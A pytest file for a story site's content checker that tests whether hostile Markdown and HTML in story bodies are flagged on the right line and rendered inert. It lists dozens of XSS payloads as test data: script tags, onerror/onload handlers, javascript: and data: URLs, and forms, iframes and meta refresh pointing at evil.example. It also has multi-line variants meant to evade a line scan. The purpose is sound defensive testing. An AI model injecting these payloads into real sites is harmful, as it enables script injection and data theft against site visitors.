"""Hostile story bodies: the check names file, line and field; the sanitised output is inert.

Payloads come from the usual XSS cheat sheets and from what a contributor with nothing but a
pull request can write in Markdown. Each case is checked both ways: the editor is told (an
error on the payload's own line), and the HTML the site would publish carries no script, no
handler, no dangerous URL and no reference to another host.
"""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from honorroll import html_policy
from honorroll.rules.safety import body_violations
from honorroll.rules.safety import render_body as _render
from tests.conftest import ContentRepo, errors

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "script-uppercase": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "img-onerror": '<img src="x.jpg" onerror="alert(1)">',
    "svg-onload": "<svg onload=alert(1)>",
    "svg-image": '<svg><image href="https://evil.example/x.png"/></svg>',
    "entity-javascript": '<a href="jav&#x61;script:alert(1)">点我</a>',
    "tab-javascript": '<a href="java\tscript:alert(1)">点我</a>',
    "data-url-link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">点我</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">点我</a>',
    "style-tag": "<style>body{background:url(https://evil.example/x.png)}</style>",
    "style-attribute": '<p style="background:url(https://evil.example/x.png)">文字</p>',
    "form": '<form action="https://evil.example/steal"><button>提交</button></form>',
    "input-image": '<input type="image" src="https://evil.example/x.png">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base-href": '<base href="https://evil.example/">',
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "link-stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "picture-source": '<picture><source srcset="https://evil.example/x.png"><img src="a.jpg" alt="a"></picture>',
    "img-srcset": '<img src="a.jpg" srcset="https://evil.example/x.png 2x" alt="a">',
    "protocol-relative-img": '<img src="//evil.example/x.png" alt="a">',
    "video": '<video src="https://evil.example/x.mp4" autoplay></video>',
    "audio": '<audio src="https://evil.example/x.mp3" autoplay></audio>',
    "details-ontoggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "math-href": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "md-link-javascript": "[点我](javascript:alert(1))",
    "md-link-mixed-case": "[点我](JaVaScRiPt:alert(1))",
    "md-image-http": "![照片](http://evil.example/x.png)",
    "md-image-protocol-relative": "![照片](//evil.example/x.png)",
    "md-image-absolute-path": "![照片](/etc/passwd)",
    "md-image-parent": "![照片](../other-story/cover.jpg)",
    "md-autolink-javascript": "<javascript:alert(1)>",
    "attr-onclick": '一段文字\n{: onclick="alert(1)" }',
    "attr-style": '一段文字\n{: style="background:url(https://evil.example/x.png)" }',
    "attr-srcset": '![照片](a.jpg){: srcset="https://evil.example/x.png 2x" }',
    "attr-class-mermaid": "```\ngraph TD\n```\n{: .mermaid }",
    "attr-id-clobber": "## 标题 {: #__search }",
}
# Outside images written the ways a per-line scan misses.
SPLIT_PAYLOADS = {
    "reference-image": "![照片][p]\n\n[p]: https://evil.example/x.png",
    "image-over-two-lines": "![照片](\nhttps://evil.example/x.png)",
    "reference-link-javascript": "[点我][j]\n\n[j]: javascript:alert(1)",
}

BAD_ATTRIBUTE_PREFIX = "on"


class _Inspector(HTMLParser):
    """Collects every tag, attribute and URL of the published HTML."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in html_policy.ALLOWED_TAGS:
            self.problems.append(f"tag {tag}")
        for name, value in attrs:
            text = (value or "").strip().lower()
            if name.startswith(BAD_ATTRIBUTE_PREFIX) or name in ("srcset", "xlink:href", "formaction", "action"):
                self.problems.append(f"attribute {name}")
            if name == "style" and text.replace(" ", "").rstrip(";") not in (
                "text-align:left",
                "text-align:right",
                "text-align:center",
            ):
                self.problems.append(f"style {text}")
            if name == "href" and html_policy.link_refusal(value or ""):
                self.problems.append(f"href {text}")
            if name == "src" and not html_policy.is_local_image(value or ""):
                self.problems.append(f"src {text}")
            if name == "class" and tag not in html_policy.ALLOWED_CLASSES:
                self.problems.append(f"class on {tag}")
            if name == "id" and text.startswith("__"):
                self.problems.append(f"id {text}")


def published(body: str) -> str:
    return html_policy.clean(_render(body))


def inspect(html: str) -> list[str]:
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    problems = inspector.problems
    if "evil.example" in html and ("src=" in html or "srcset" in html):
        problems.append("outside host referenced")
    if "javascript:" in html.lower() or "<script" in html.lower():
        problems.append("script survived")
    return problems


@pytest.mark.parametrize("payload", [*PAYLOADS.values(), *SPLIT_PAYLOADS.values()], ids=[*PAYLOADS, *SPLIT_PAYLOADS])
def test_published_html_is_inert(payload: str) -> None:
    html = published(f"第一段。\n\n{payload}\n\n最后一段。\n")
    assert inspect(html) == []
    assert "第一段" in html and "最后一段" in html  # the story itself survives


@pytest.mark.parametrize("name", list(PAYLOADS))
def test_the_check_names_the_payload_line(repo: ContentRepo, name: str) -> None:
    body = f"第一段。\n\n{PAYLOADS[name]}\n\n最后一段。\n"
    path = repo.write_story(body=body)
    found = errors(repo.check(), "safety")
    assert found, name
    body_start = path.read_text(encoding="utf-8").splitlines().index("第一段。") + 1
    payload_lines = range(body_start + 2, body_start + 2 + PAYLOADS[name].count("\n") + 1)
    assert {d.line for d in found} <= set(payload_lines), [d.format_text() for d in found]
    assert all(d.file == "stories/2024/2024-lin-postman.md" and d.field == "正文" for d in found)
    assert all("：" in d.message for d in found)  # what is wrong, then what to do


@pytest.mark.parametrize("name", list(SPLIT_PAYLOADS))
def test_the_check_catches_what_a_line_scan_misses(repo: ContentRepo, name: str) -> None:
    repo.write_story(body=f"第一段。\n\n{SPLIT_PAYLOADS[name]}\n")
    [problem] = errors(repo.check(), "safety")
    assert problem.field == "正文" and ("evil.example" in problem.message or "javascript" in problem.message)


def test_a_handler_on_a_continuation_line_is_reported_on_that_line() -> None:
    body = '第一段。\n\n<img src="a.jpg"\n     alt="照片"\n     onerror="alert(1)">\n'
    [(offset, violation)] = list(body_violations(body))
    assert offset == 4 and "onerror" in violation.message


def test_plain_markdown_passes_untouched(repo: ContentRepo) -> None:
    body = (
        "## 小标题\n\n他说：“**坚持**就是胜利。”见[报道](https://example.org/news/1)或致电"
        '[服务热线](tel:12345)。\n\n| 年份 | 次数 |\n|:--|--:|\n| 2023 | 12 |\n\n!!! note "备注"\n    内容\n\n'
        "<!-- 编辑的内部备注 -->\n"
    )
    repo.write_story(body=body)
    assert errors(repo.check(), "safety") == []
    html = published(body)
    assert inspect(html) == []
    assert "编辑的内部备注" not in html  # comments never reach the page source
    assert '<td style="text-align:right">12</td>' in html.replace('align="right" ', "")
    assert 'class="admonition note"' in html


def test_sanitiser_and_walker_agree_on_every_payload() -> None:
    """Whatever the check lets pass, the sanitiser leaves unchanged (one allow-list, two users)."""
    for payload in PAYLOADS.values():
        html = _render(payload)
        if not list(html_policy.violations(html)):
            assert html_policy.clean(html) == html_policy.clean(html_policy.clean(html))
